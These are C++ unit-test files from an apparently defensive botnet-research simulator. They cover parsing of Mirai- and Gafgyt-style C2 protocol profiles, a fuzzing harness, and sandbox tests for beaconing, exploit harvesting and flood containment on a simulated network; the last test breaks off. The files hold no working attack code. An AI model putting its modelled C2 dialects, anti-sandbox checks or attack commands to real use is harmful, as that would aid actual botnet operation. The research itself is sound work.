TEST(ProfileWire, VariantDialectIsIncompatibleWithBuiltin) {
  const auto builtin = builtin_profile(proto::Family::kMirai);
  const auto variant = make_variant();
  const auto hs = wire::encode_handshake(variant, "bot");
  EXPECT_NE(hs, wire::encode_handshake(builtin, "bot"));
  EXPECT_FALSE(wire::decode_handshake(builtin, hs).has_value());
  EXPECT_TRUE(wire::decode_handshake(variant, hs).has_value());
  EXPECT_FALSE(proto::mirai::decode_handshake(hs).has_value());
}

TEST(ProfileWire, EncodeThrowsForMissingCommandType) {
  const auto p = builtin_profile(proto::Family::kGafgyt);  // no BLACKNURSE
  EXPECT_THROW(
      (void)wire::encode_text_attack(
          p, make_cmd(proto::Family::kGafgyt, proto::AttackType::kBlacknurse)),
      std::invalid_argument);
}

// --- parsing and validation --------------------------------------------------

TEST(ProfileParse, SyntaxErrorsCarryLineAndColumn) {
  ParseIssue issue;
  EXPECT_FALSE(parse_profile("{\n  \"family\": \"Mirai\",\n  oops\n}", &issue)
                   .has_value());
  EXPECT_EQ(issue.line, 3);
  EXPECT_GT(issue.column, 0);
  EXPECT_NE(issue.render().find("line 3"), std::string::npos) << issue.render();
}

TEST(ProfileParse, SchemaErrorsNameTheField) {
  const struct {
    const char* text;
    const char* field;
  } cases[] = {
      {R"({"name": "x"})", "family"},
      {R"({"family": "NoSuchFamily"})", "family"},
      {R"({"family": "Gafgyt", "marker": "x", "framing": "warp"})", "framing"},
      {R"({"family": "Mirai", "marker": "x", "framing": "binary", "topology": "single",
           "binary": {"handshake_magic": 1}, "surprise": 3})",
       "surprise"},
      {R"({"family": "VPNFilter", "marker": "x", "framing": "tls-beacon", "topology": "single",
           "tls": {"client_hello": "zz", "server_hello": "16", "beacon": "17",
                   "peer_id": "p"}})",
       "tls.client_hello"},
  };
  for (const auto& c : cases) {
    ParseIssue issue;
    ASSERT_FALSE(parse_profile(c.text, &issue).has_value()) << c.text;
    EXPECT_EQ(issue.field, c.field) << issue.render();
  }
}

TEST(ProfileParse, AmbiguousFramingIsRejected) {
  // A profile declaring text framing but carrying a binary section is
  // ambiguous — two grammars could plausibly apply — and must be rejected,
  // not resolved by precedence.
  ParseIssue issue;
  const auto r = parse_profile(
      R"({"family": "Gafgyt", "marker": "x", "framing": "text", "topology": "single",
          "binary": {"handshake_magic": 1},
          "text": {"hello": ["BUILD"], "ping": "PING", "pong": "PONG",
                   "attack_prefix": "!*"}})",
      &issue);
  EXPECT_FALSE(r.has_value());
  EXPECT_NE(issue.message.find("ambiguous framing"), std::string::npos)
      << issue.render();

  // The converse: framing declared but its section missing.
  EXPECT_FALSE(parse_profile(
                   R"({"family": "Mirai", "marker": "x", "framing": "binary",
                       "topology": "single"})",
                   &issue)
                   .has_value());
  EXPECT_NE(issue.message.find("missing section"), std::string::npos)
      << issue.render();
}

TEST(ProfileParse, ValidationRejectsBadProfiles) {
  const char* bad[] = {
      // keepalive bounds inverted
      R"({"family": "Mirai", "marker": "x", "framing": "binary", "topology": "fallback",
          "binary": {"handshake_magic": 1},
          "beacon": {"keepalive_min_s": 90, "keepalive_max_s": 45}})",
      // p2p family with centralised framing
      R"({"family": "Mozi", "marker": "x", "framing": "binary", "topology": "single",
          "binary": {"handshake_magic": 1}})",
      // p2p framing with commands
      R"({"family": "Hajime", "marker": "x", "framing": "p2p", "topology": "p2p",
          "commands": [{"type": "UDP Flood", "vector": 0}]})",
      // duplicate keyword (case-insensitive grammar)
      R"({"family": "Gafgyt", "marker": "x", "framing": "text", "topology": "fallback",
          "text": {"hello": ["BUILD"], "hello_arg": "rest",
                   "hello_sends": "arch", "ping": "PING", "pong": "PONG",
                   "attack_prefix": "!*"},
          "commands": [{"type": "UDP Flood", "keyword": "UDP"},
                       {"type": "STD Flood", "keyword": "udp"}]})",
      // attacker quota without any commands to issue
      R"({"family": "VPNFilter", "marker": "x", "framing": "tls-beacon", "topology": "single",
          "tls": {"client_hello": "16", "server_hello": "16", "beacon": "17",
                  "peer_id": "p"},
          "plan": {"attacker_quota": 3}})",
      // extra fallbacks on a single-C2 topology
      R"({"family": "Mirai", "marker": "x", "framing": "binary", "topology": "single",
          "binary": {"handshake_magic": 1}, "fallback": {"extra": 2}})",
  };
  for (const auto* text : bad) {
    ParseIssue issue;
    EXPECT_FALSE(parse_profile(text, &issue).has_value()) << text;
  }
}

// --- registry ----------------------------------------------------------------

TEST(ProfileRegistry, BuiltinRegistryServesEveryFamily) {
  const auto& reg = Registry::builtin();
  EXPECT_EQ(reg.all().size(), proto::kFamilyCount);
  for (std::size_t i = 0; i < proto::kFamilyCount; ++i) {
    const auto f = static_cast<proto::Family>(i);
    const auto* p = reg.active(f);
    ASSERT_NE(p, nullptr);
    EXPECT_EQ(p->id, f);
    EXPECT_EQ(p->name, proto::to_string(f));
  }
  EXPECT_EQ(reg.by_name("no-such"), nullptr);
}

TEST(ProfileRegistry, LoadingBuiltinDumpKeepsSetHash) {
  const auto dir = builtin_dump_dir("reg_dump");
  Registry reg;
  const auto before = reg.set_hash();
  ASSERT_FALSE(reg.load_dir(dir).has_value());
  EXPECT_EQ(reg.set_hash(), before);
  EXPECT_EQ(reg.set_hash(), Registry::builtin().set_hash());
}

TEST(ProfileRegistry, LoadedVariantChangesSetHashAndResolvesByName) {
  Registry reg;
  const auto before = reg.set_hash();
  const auto path = tmp_path("variant.json");
  write_text(path, make_variant().to_pretty_json());
  ASSERT_FALSE(reg.load_file(path).has_value());
  EXPECT_NE(reg.set_hash(), before);
  const auto* v = reg.by_name("mirai-fallback");
  ASSERT_NE(v, nullptr);
  EXPECT_EQ(v->handshake_magic, 2u);
  EXPECT_EQ(v->extra_fallbacks, 2);
  // The family's *active* profile is still the builtin.
  EXPECT_EQ(reg.active(proto::Family::kMirai)->name, "Mirai");
}

TEST(ProfileRegistry, LoadErrorsCarryPathAndContext) {
  Registry reg;
  const auto before = reg.set_hash();
  const auto path = tmp_path("broken.json");
  write_text(path, "{\"family\": \"Mirai\",,}");
  const auto err = reg.load_file(path);
  ASSERT_TRUE(err.has_value());
  EXPECT_NE(err->find(path), std::string::npos) << *err;
  EXPECT_NE(err->find("line"), std::string::npos) << *err;
  EXPECT_EQ(reg.set_hash(), before) << "failed load must not mutate the registry";
  EXPECT_TRUE(reg.load_file(tmp_path("absent.json")).has_value());
}

// --- world planning ----------------------------------------------------------

TEST(ProfileWorld, VariantRoutingReachesPlanAndForgedBinaries) {
  Registry reg;
  const auto path = tmp_path("world_variant.json");
  write_text(path, make_variant().to_pretty_json());
  ASSERT_FALSE(reg.load_file(path).has_value());

  sim::EventScheduler sched;
  sim::Network net{sched};
  botnet::WorldConfig wc;
  wc.total_samples = 80;
  wc.profiles = &reg;
  wc.variant_name = "mirai-fallback";
  wc.variant_fraction = 1.0;
  botnet::World world(net, wc);

  std::size_t mirai_c2s = 0;
  for (const auto& c2 : world.c2_plan()) {
    if (c2.cfg.family != proto::Family::kMirai) continue;
    ++mirai_c2s;
    ASSERT_NE(c2.cfg.profile, nullptr);
    EXPECT_EQ(c2.cfg.profile->name, "mirai-fallback");
  }
  EXPECT_GT(mirai_c2s, 0u);

  // Forged Mirai binaries carry the variant name and up to two extra
  // fallback C2s; the extras are real planned servers.
  std::size_t variant_bins = 0, with_extras = 0;
  for (const auto& s : world.samples()) {
    if (s.truth_family != proto::Family::kMirai || s.truth_corrupt) continue;
    const auto parsed = mal::parse(s.binary);
    if (!parsed) continue;
    if (parsed->behavior.profile_name == "mirai-fallback") ++variant_bins;
    EXPECT_LE(parsed->behavior.extra_c2.size(), 2u);
    if (!parsed->behavior.extra_c2.empty()) {
      ++with_extras;
      for (const auto& ep : parsed->behavior.extra_c2) {
        EXPECT_NE(world.find_c2(net::to_string(ep.ip)), nullptr);
      }
    }
  }
  EXPECT_GT(variant_bins, 0u);
  EXPECT_GT(with_extras, 0u);
}

TEST(ProfileWorld, UnknownOrInvalidVariantConfigThrows) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  botnet::WorldConfig wc;
  wc.total_samples = 10;
  wc.variant_name = "no-such-profile";
  wc.variant_fraction = 0.5;
  EXPECT_THROW(botnet::World(net, wc), std::invalid_argument);

  botnet::WorldConfig p2p;
  p2p.total_samples = 10;
  p2p.variant_name = "Mozi";  // p2p profiles cannot route the C2 planner
  p2p.variant_fraction = 0.5;
  EXPECT_THROW(botnet::World(net, p2p), std::invalid_argument);

  botnet::WorldConfig frac;
  frac.total_samples = 10;
  frac.variant_name = "Mirai";
  frac.variant_fraction = 1.5;
  EXPECT_THROW(botnet::World(net, frac), std::invalid_argument);
}

// --- golden study byte-identity ---------------------------------------------

TEST(ProfileGolden, LoadedBuiltinsReproduceStudyByteForByte) {
  const auto dir = builtin_dump_dir("golden_dump");
  for (const int shards : {1, 2}) {
    core::ParallelStudyConfig base;
    base.base.seed = 22;
    base.base.world.total_samples = 40;
    base.base.run_probe_campaign = false;
    base.shards = shards;
    base.jobs = shards;
    const auto baseline =
        report::serialize_datasets(core::ParallelStudy(base).run());

    auto reg = std::make_shared<Registry>();
    ASSERT_FALSE(reg->load_dir(dir).has_value());
    auto loaded = base;
    loaded.base.profiles = reg;
    const auto with_profiles =
        report::serialize_datasets(core::ParallelStudy(loaded).run());
    EXPECT_EQ(with_profiles, baseline) << "shards=" << shards;
  }
}

// --- variant end-to-end (C2 server <-> sandboxed bot) ------------------------

TEST(ProfileEndToEnd, VariantBotSpeaksVariantDialectOnly) {
  Registry reg;
  const auto path = tmp_path("e2e_variant.json");
  write_text(path, make_variant().to_pretty_json());
  ASSERT_FALSE(reg.load_file(path).has_value());

  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.profile_name = "mirai-fallback";
  bin.behavior.bot_id = "vbot";
  bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
  bin.behavior.c2_port = 23;
  util::Rng forge_rng(5);
  const auto binary = mal::forge(bin, forge_rng);

  const auto run_against = [&](const FamilyProfile* server_profile) {
    sim::EventScheduler sched;
    sim::Network net{sched};
    botnet::C2ServerConfig cfg;
    cfg.family = proto::Family::kMirai;
    cfg.ip = net::Ipv4{60, 1, 1, 1};
    cfg.port = 23;
    cfg.accept_prob = 1.0;
    cfg.profile = server_profile;
    cfg.attack_plan = {make_cmd(proto::Family::kMirai, proto::AttackType::kUdpFlood)};
    botnet::C2Server server(net, cfg, util::Rng(7));

    emu::SandboxConfig sc;
    sc.profiles = &reg;
    emu::Sandbox sandbox(net, sc);
    emu::SandboxOptions opts;
    opts.mode = emu::SandboxMode::kLive;
    opts.duration = sim::Duration::minutes(40);
    opts.allowed_c2 = net::Endpoint{{60, 1, 1, 1}, 23};
    emu::SandboxReport report;
    sandbox.start(binary, opts, [&](const emu::SandboxReport& r) { report = r; });
    sched.run_until(sched.now() + opts.duration + sim::Duration::minutes(1));
    return report;
  };

  // Against a variant-profile server the bot registers and receives the
  // command; against the builtin server the magic-2 handshake is rejected.
  const auto ok = run_against(reg.by_name("mirai-fallback"));
  EXPECT_GE(ok.commands.size(), 1u);
  const auto refused = run_against(nullptr);
  EXPECT_EQ(refused.commands.size(), 0u);
}

// --- behaviour-spec wire extensions ------------------------------------------

TEST(ProfileBehavior, SpecRoundTripsProfileNameAndExtraC2) {
  mal::BehaviorSpec spec;
  spec.family = proto::Family::kMirai;
  spec.bot_id = "b";
  spec.c2_ip = net::Ipv4{60, 1, 1, 1};
  spec.c2_port = 23;
  const auto plain = mal::encode_behavior(spec);

  spec.profile_name = "mirai-fallback";
  spec.extra_c2 = {{net::Ipv4{61, 1, 1, 1}, 23}, {net::Ipv4{62, 1, 1, 1}, 24}};
  const auto extended = mal::encode_behavior(spec);
  EXPECT_GT(extended.size(), plain.size());

  const auto back = mal::decode_behavior(extended);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->profile_name, "mirai-fallback");
  ASSERT_EQ(back->extra_c2.size(), 2u);
  EXPECT_EQ(back->extra_c2[1].port, 24);

  // Default-valued fields add no bytes: pre-profile binaries stay valid
  // and new encodes of plain specs are byte-identical to old ones.
  const auto plain_back = mal::decode_behavior(plain);
  ASSERT_TRUE(plain_back.has_value());
  EXPECT_TRUE(plain_back->profile_name.empty());
  EXPECT_TRUE(plain_back->extra_c2.empty());
}

// --- fuzz --------------------------------------------------------------------

TEST(ProfileFuzz, ParserNeverCrashesNorAcceptsInvalid) {
  const auto corpus = testkit::corpus_inputs("profile_");
  ASSERT_FALSE(corpus.empty());
  const testkit::Mutator mutator;
  testkit::CheckConfig cfg;
  cfg.cases = 5'000;
  cfg.name = "profile parse no-crash";
  const auto inputs =
      testkit::apply(
          [&corpus](std::uint64_t pick, int which, util::Bytes noise) {
            return which == 0 ? noise : corpus[pick % corpus.size()];
          },
          testkit::ints<std::uint64_t>(0, 1'000'000), testkit::ints<int>(0, 7),
          testkit::byte_strings(0, 512))
          .map([&mutator](util::Bytes base) {
            util::Rng mrng(util::fnv1a64(util::to_hex(base)), 17);
            return mutator.mutate(base, mrng);
          });
  const auto r = testkit::check(
      inputs,
      [](const util::Bytes& data) {
        ParseIssue issue;
        const auto p = parse_profile(
            std::string_view(reinterpret_cast<const char*>(data.data()),
                             data.size()),
            &issue);
        // Anything that parses must be a fully valid profile — the parser
        // must never hand consumers a profile validate() would reject.
        return !p.has_value() || !p->validate().has_value();
      },
      cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}
