// The property-testing harness itself: generator determinism, the
// check()/shrink contract (failing seed printed, rerun reproduces
// byte-for-byte, counterexamples minimal), the structure-aware mutator, and
// the committed seed corpus.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <set>

#include "net/ipv4.hpp"
#include "testkit/testkit.hpp"

using namespace malnet;
using namespace malnet::testkit;

namespace {

// Fixed-seed config so these tests ignore MALNET_CHECK_SEED/MALNET_FUZZ_CASES
// overrides from the environment (they test the harness, not the decoders).
CheckConfig fixed_cfg(int cases) {
  CheckConfig cfg;
  cfg.cases = cases;
  cfg.env_overrides = false;
  return cfg;
}

}  // namespace

// --- Gen --------------------------------------------------------------------

TEST(Gen, SameSeedSameSequence) {
  const auto gen = byte_strings(0, 64);
  util::Rng a(7, 1), b(7, 1);
  for (int i = 0; i < 50; ++i) EXPECT_EQ(gen(a), gen(b));
}

TEST(Gen, DifferentStreamsDecorrelate) {
  const auto gen = byte_strings(16, 16);
  util::Rng a(7, 1), b(7, 3);
  int equal = 0;
  for (int i = 0; i < 20; ++i) {
    if (gen(a) == gen(b)) ++equal;
  }
  EXPECT_EQ(equal, 0);
}

TEST(Gen, IntsStayInRange) {
  const auto gen = ints<int>(-5, 17);
  util::Rng rng(3, 1);
  std::set<int> seen;
  for (int i = 0; i < 500; ++i) {
    const int v = gen(rng);
    EXPECT_GE(v, -5);
    EXPECT_LE(v, 17);
    seen.insert(v);
  }
  EXPECT_EQ(seen.size(), 23u);  // whole range hit
}

TEST(Gen, MapAndApplyCompose) {
  const auto ip = apply(
      [](std::uint8_t a, std::uint8_t b, std::uint8_t c, std::uint8_t d) {
        return net::Ipv4{a, b, c, d};
      },
      any_byte(), any_byte(), any_byte(), any_byte());
  const auto rendered = ip.map([](net::Ipv4 v) { return net::to_string(v); });
  util::Rng rng(9, 1);
  const auto s = rendered(rng);
  EXPECT_TRUE(net::parse_ipv4(s).has_value()) << s;
}

TEST(Gen, WeightedRespectsZeroWeight) {
  const auto gen = weighted<int>({{1.0, 1}, {0.0, 2}, {3.0, 3}});
  util::Rng rng(11, 1);
  for (int i = 0; i < 200; ++i) EXPECT_NE(gen(rng), 2);
}

TEST(Gen, VectorsOfRespectsBounds) {
  const auto gen = vectors_of(ints<int>(0, 9), 2, 5);
  util::Rng rng(13, 1);
  for (int i = 0; i < 100; ++i) {
    const auto v = gen(rng);
    EXPECT_GE(v.size(), 2u);
    EXPECT_LE(v.size(), 5u);
  }
}

// --- check() ----------------------------------------------------------------

TEST(Check, PassingPropertyRunsAllCases) {
  const auto r = check(ints<int>(0, 100), [](int v) { return v <= 100; },
                       fixed_cfg(250));
  EXPECT_TRUE(r.ok);
  EXPECT_EQ(r.cases_run, 250);
  EXPECT_EQ(r.summary(), "");
}

TEST(Check, FailureReportsSeedAndCase) {
  auto cfg = fixed_cfg(500);
  cfg.seed = 42;
  cfg.name = "always-fails";
  const auto r = check(ints<int>(0, 1000), [](int) { return false; }, cfg);
  ASSERT_FALSE(r.ok);
  EXPECT_EQ(r.seed, 42u);
  EXPECT_EQ(r.failing_case, 0);
  EXPECT_NE(r.summary().find("MALNET_CHECK_SEED=42"), std::string::npos);
  EXPECT_NE(r.summary().find("counterexample"), std::string::npos);
}

TEST(Check, RerunWithSameSeedReproducesByteForByte) {
  auto cfg = fixed_cfg(500);
  cfg.seed = 1234;
  const auto prop = [](const util::Bytes& v) { return v.size() < 48; };
  const auto a = check(byte_strings(0, 64), prop, cfg);
  const auto b = check(byte_strings(0, 64), prop, cfg);
  ASSERT_FALSE(a.ok);
  EXPECT_EQ(a.failing_case, b.failing_case);
  EXPECT_EQ(a.original, b.original);            // identical pre-shrink input
  EXPECT_EQ(a.counterexample, b.counterexample);  // identical shrink path
  EXPECT_EQ(a.summary(), b.summary());
}

TEST(Check, ShrinksBytesToMinimalLength) {
  // Fails iff size >= 10: the minimal counterexample is 10 zero bytes.
  const auto r = check(byte_strings(0, 200),
                       [](const util::Bytes& v) { return v.size() < 10; },
                       fixed_cfg(200));
  ASSERT_FALSE(r.ok);
  EXPECT_EQ(r.counterexample, "len=10 hex=00000000000000000000");
}

TEST(Check, ShrinksIntegerTowardZero) {
  const auto r = check(ints<std::uint32_t>(0, 1'000'000),
                       [](std::uint32_t v) { return v < 100; }, fixed_cfg(200));
  ASSERT_FALSE(r.ok);
  EXPECT_EQ(r.counterexample, "100");
}

TEST(Check, PropertyExceptionIsCapturedNotPropagated) {
  const auto r = check(ints<int>(0, 10),
                       [](int v) -> bool {
                         if (v > 2) throw std::runtime_error("boom at " + std::to_string(v));
                         return true;
                       },
                       fixed_cfg(100));
  ASSERT_FALSE(r.ok);
  EXPECT_NE(r.message.find("threw: boom"), std::string::npos);
  // Shrinking drives the input down to the smallest still-throwing value.
  EXPECT_EQ(r.counterexample, "3");
}

TEST(Check, CheckEachCoversExplicitInputs) {
  const std::vector<util::Bytes> inputs = {{0x01}, {0x02, 0x03}, {}};
  const auto ok = check_each(inputs, [](util::BytesView) { return true; });
  EXPECT_TRUE(ok.ok);
  EXPECT_EQ(ok.cases_run, 3);
  const auto bad =
      check_each(inputs, [](util::BytesView v) { return v.size() != 2; }, "pair");
  ASSERT_FALSE(bad.ok);
  EXPECT_EQ(bad.failing_case, 1);
  EXPECT_NE(bad.counterexample.find("0203"), std::string::npos);
}

// --- Mutator ----------------------------------------------------------------

TEST(Mutator, DeterministicGivenRngState) {
  const Mutator m;
  const auto input = util::from_hex("0010 00000078 01 01 cb007109 20 00");
  util::Rng a(5, 1), b(5, 1);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(m.mutate(input, a), m.mutate(input, b));
}

TEST(Mutator, ProducesVariedMutants) {
  const Mutator m;
  const auto input = corpus_file("mirai_attack.bin");
  util::Rng rng(8, 1);
  std::set<util::Bytes> variants;
  for (int i = 0; i < 200; ++i) variants.insert(m.mutate(input, rng));
  EXPECT_GT(variants.size(), 100u);  // not stuck mutating one way
}

TEST(Mutator, TruncateShortens) {
  const Mutator m;
  const auto input = corpus_file("dns_response.bin");
  util::Rng rng(2, 1);
  for (int i = 0; i < 50; ++i) {
    EXPECT_LT(m.truncate(input, rng).size(), input.size());
  }
  EXPECT_TRUE(m.truncate({}, rng).empty());
}

TEST(Mutator, FindsTheMiraiLengthPrefix) {
  // encode_attack frames the body behind a u16 length prefix at offset 0.
  const auto wire = corpus_file("mirai_attack.bin");
  const auto fields = find_length_fields(wire);
  const bool found =
      std::any_of(fields.begin(), fields.end(), [&](const LengthField& f) {
        return f.offset == 0 && f.width == 2 && f.value == wire.size() - 2;
      });
  EXPECT_TRUE(found) << "length-prefix heuristic missed the lp16 frame";
}

TEST(Mutator, FindsThePcapInclLenField) {
  // Per-record incl_len sits 8 bytes into each pcap record header.
  const auto pcap = corpus_file("mini.pcap");
  const auto fields = find_length_fields(pcap);
  const bool found =
      std::any_of(fields.begin(), fields.end(), [&](const LengthField& f) {
        return f.offset == 24 + 8 && f.width == 4;
      });
  EXPECT_TRUE(found);
}

TEST(Mutator, CorruptLengthChangesOnlyAPlausibleField) {
  const Mutator m;
  const auto input = corpus_file("mirai_attack.bin");
  util::Rng rng(4, 1);
  for (int i = 0; i < 50; ++i) {
    const auto mutant = m.corrupt_length(input, rng);
    ASSERT_EQ(mutant.size(), input.size());
    EXPECT_NE(mutant, input);  // candidate values exclude the original
  }
}

// --- Corpus -----------------------------------------------------------------

TEST(Corpus, LoadsCommittedEntriesSorted) {
  const auto entries = load_default_corpus();
  ASSERT_GE(entries.size(), 15u);
  for (std::size_t i = 1; i < entries.size(); ++i) {
    EXPECT_LT(entries[i - 1].name, entries[i].name);
  }
  for (const auto& e : entries) EXPECT_FALSE(e.data.empty()) << e.name;
}

TEST(Corpus, PrefixSelectionAndMissingPrefixThrow) {
  EXPECT_GE(corpus_inputs("mirai_").size(), 3u);
  EXPECT_GE(corpus_inputs("dns_").size(), 2u);
  EXPECT_THROW((void)corpus_inputs("no_such_prefix_"), std::runtime_error);
  EXPECT_THROW((void)load_corpus("/nonexistent/dir"), std::runtime_error);
}

TEST(Corpus, EnvOverrideWins) {
  ASSERT_EQ(setenv("MALNET_CORPUS_DIR", "/tmp/malnet-no-such-corpus", 1), 0);
  EXPECT_EQ(corpus_dir(), "/tmp/malnet-no-such-corpus");
  ASSERT_EQ(unsetenv("MALNET_CORPUS_DIR"), 0);
  EXPECT_NE(corpus_dir(), "/tmp/malnet-no-such-corpus");
}
