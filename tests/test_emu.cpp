// Sandbox behaviour: activation, capture, handshaker, InetSim interplay,
// MITM probing and live-mode containment.
#include <gtest/gtest.h>

#include <set>

#include "botnet/c2server.hpp"
#include "emu/attackgen.hpp"
#include "proto/p2p.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "net/pcap.hpp"

using namespace malnet;
using namespace malnet::emu;

namespace {
struct Bench {
  sim::EventScheduler sched;
  sim::Network net{sched};
  Sandbox sandbox{net};
};

mal::MbfBinary scanning_bot(std::optional<vulndb::VulnId> vuln = vulndb::VulnId::kMvpowerDvr) {
  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
  bin.behavior.c2_port = 23;
  bin.behavior.bot_id = "bot";
  if (vuln) {
    mal::ScanTask task;
    task.port = 60001;
    task.vuln = vuln;
    task.target_count = 60;
    task.pps = 20.0;
    bin.behavior.scans.push_back(task);
  }
  bin.behavior.loader_name = "jaws.sh";
  bin.behavior.downloader_host = "60.1.1.1";
  return bin;
}

SandboxReport run_observe(Bench& b, const util::Bytes& binary, SandboxOptions opts = {}) {
  SandboxReport out;
  bool done = false;
  b.sandbox.start(binary, opts, [&](const SandboxReport& r) {
    out = r;
    done = true;
  });
  b.sched.run_until(b.sched.now() + opts.duration + sim::Duration::minutes(1));
  EXPECT_TRUE(done);
  return out;
}
}  // namespace

TEST(Sandbox, UnparseableBinaryReportsFailure) {
  Bench b;
  const auto report = run_observe(b, util::to_bytes("not a binary"));
  EXPECT_FALSE(report.parsed);
  EXPECT_FALSE(report.activated);
  EXPECT_TRUE(report.capture.empty());
  EXPECT_EQ(b.sandbox.active_runs(), 0u);
}

TEST(Sandbox, ObserveCapturesC2Beaconing) {
  Bench b;
  util::Rng rng(1);
  const auto report = run_observe(b, mal::forge(scanning_bot(std::nullopt), rng));
  EXPECT_TRUE(report.parsed);
  EXPECT_TRUE(report.activated);
  // The C2 SYN retries are visible at the original destination.
  int c2_syns = 0;
  for (const auto& p : report.capture) {
    if (p.proto == net::Protocol::kTcp && p.flags.syn && !p.flags.ack &&
        p.dst == net::Ipv4{60, 1, 1, 1} && p.dst_port == 23) {
      ++c2_syns;
    }
  }
  EXPECT_GE(c2_syns, 2);
  EXPECT_GT(report.packets_dropped, 0u);  // nothing real was reachable
}

TEST(Sandbox, HandshakerHarvestsExploits) {
  Bench b;
  util::Rng rng(2);
  const auto report = run_observe(b, mal::forge(scanning_bot(), rng));
  ASSERT_FALSE(report.exploits.empty());
  const auto& vdb = vulndb::VulnDatabase::instance();
  bool attributed = false;
  for (const auto& cap : report.exploits) {
    EXPECT_EQ(cap.port, 60001);
    EXPECT_FALSE(cap.original_dst.is_unspecified());
    if (const auto* v = vdb.match_payload(cap.payload)) {
      EXPECT_EQ(v->id, vulndb::VulnId::kMvpowerDvr);
      attributed = true;
    }
  }
  EXPECT_TRUE(attributed);
}

TEST(Sandbox, HandshakerThresholdGovernsHarvest) {
  // With a threshold above the sweep size, no redirect ever happens and no
  // payloads are collected — the §2.4 knob works.
  Bench b;
  util::Rng rng(3);
  SandboxOptions opts;
  opts.handshaker_threshold = 1000;
  const auto report = run_observe(b, mal::forge(scanning_bot(), rng), opts);
  EXPECT_TRUE(report.exploits.empty());
}

TEST(Sandbox, DnsQueriesAreRecordedAndConnectivitySatisfied) {
  Bench b;
  auto bin = scanning_bot(std::nullopt);
  bin.behavior.check_internet = true;
  bin.behavior.anti_sandbox = true;  // would abort without InetSim
  util::Rng rng(4);
  const auto report = run_observe(b, mal::forge(bin, rng));
  EXPECT_FALSE(report.evasion_abort) << "InetSim must satisfy the check (§2.6a)";
  ASSERT_FALSE(report.dns_queries.empty());
  EXPECT_EQ(report.dns_queries.front(), "update.busybox-cdn.com");
}

TEST(Sandbox, DomainC2ResolvedThroughFakeDns) {
  Bench b;
  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kGafgyt;
  bin.behavior.c2_domain = "cnc.bot-net1.com";
  bin.behavior.c2_port = 666;
  util::Rng rng(5);
  const auto report = run_observe(b, mal::forge(bin, rng));
  // The domain resolves (to the martian) and the bot beacons at it.
  bool queried = false;
  for (const auto& q : report.dns_queries) queried |= q == "cnc.bot-net1.com";
  EXPECT_TRUE(queried);
  int syns_to_martian = 0;
  for (const auto& p : report.capture) {
    if (p.proto == net::Protocol::kTcp && p.flags.syn && !p.flags.ack &&
        p.dst == b.sandbox.martian() && p.dst_port == 666) {
      ++syns_to_martian;
    }
  }
  EXPECT_GE(syns_to_martian, 2);
}

TEST(Sandbox, P2pSamplesEmitDhtTraffic) {
  Bench b;
  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMozi;
  bin.behavior.node_id = std::string(20, 'M');
  bin.behavior.p2p_peers = {{net::Ipv4{61, 0, 0, 1}, 6881}};
  util::Rng rng(6);
  const auto report = run_observe(b, mal::forge(bin, rng));
  bool dht_seen = false;
  for (const auto& p : report.capture) {
    if (p.proto == net::Protocol::kUdp && p.dst_port == 6881) {
      dht_seen |= proto::p2p::looks_like_dht(p.payload);
    }
  }
  EXPECT_TRUE(dht_seen);
  EXPECT_GT(report.packets_dropped, 0u);  // P2P gossip never leaves observe mode
}

TEST(Sandbox, WeaponizedEngagesMatchingC2) {
  Bench b;
  botnet::C2ServerConfig cfg;
  cfg.family = proto::Family::kMirai;
  cfg.ip = net::Ipv4{60, 1, 1, 1};
  cfg.port = 23;
  cfg.accept_prob = 1.0;
  botnet::C2Server server(b.net, cfg, util::Rng(7));

  util::Rng rng(8);
  SandboxOptions opts;
  opts.mode = SandboxMode::kWeaponized;
  opts.duration = sim::Duration::seconds(90);
  opts.c2_hint = net::Endpoint{{60, 1, 1, 1}, 23};
  opts.mitm_target = net::Endpoint{{60, 1, 1, 1}, 23};
  const auto report = run_observe(b, mal::forge(scanning_bot(std::nullopt), rng), opts);
  EXPECT_TRUE(report.mitm_engaged);
  EXPECT_FALSE(report.mitm_first_data.empty());
}

TEST(Sandbox, WeaponizedReportsDeadTargets) {
  Bench b;
  util::Rng rng(9);
  SandboxOptions opts;
  opts.mode = SandboxMode::kWeaponized;
  opts.duration = sim::Duration::seconds(60);
  opts.c2_hint = net::Endpoint{{60, 1, 1, 1}, 23};
  opts.mitm_target = net::Endpoint{{61, 2, 2, 2}, 23};  // dark
  const auto report = run_observe(b, mal::forge(scanning_bot(std::nullopt), rng), opts);
  EXPECT_FALSE(report.mitm_engaged);
}

TEST(Sandbox, LiveModeContainsEverythingButC2) {
  Bench b;
  botnet::C2ServerConfig cfg;
  cfg.family = proto::Family::kMirai;
  cfg.ip = net::Ipv4{60, 1, 1, 1};
  cfg.port = 23;
  cfg.accept_prob = 1.0;
  proto::AttackCommand atk;
  atk.type = proto::AttackType::kUdpFlood;
  atk.target = {net::Ipv4{7, 7, 7, 7}, 80};
  atk.duration_s = 10;
  cfg.attack_plan = {atk};
  botnet::C2Server server(b.net, cfg, util::Rng(10));
  sim::Host victim(b.net, net::Ipv4{7, 7, 7, 7});
  std::uint64_t victim_hits = 0;
  victim.udp_bind(80, [&](const net::Packet&) { ++victim_hits; });

  util::Rng rng(11);
  SandboxOptions opts;
  opts.mode = SandboxMode::kLive;
  opts.duration = sim::Duration::minutes(40);
  opts.allowed_c2 = net::Endpoint{{60, 1, 1, 1}, 23};
  const auto report = run_observe(b, mal::forge(scanning_bot(std::nullopt), rng), opts);

  EXPECT_GE(report.commands.size(), 1u) << "bot must receive the attack command";
  EXPECT_EQ(victim_hits, 0u) << "attack flood must not leave the sandbox (§2.6c)";
  // ...but the capture must show the attempted flood for the pps heuristic.
  std::uint64_t flood_packets = 0;
  for (const auto& p : report.capture) {
    if (p.dst == net::Ipv4{7, 7, 7, 7}) ++flood_packets;
  }
  EXPECT_GT(flood_packets, 100u);
}

TEST(Sandbox, CaptureExportsAsValidPcap) {
  Bench b;
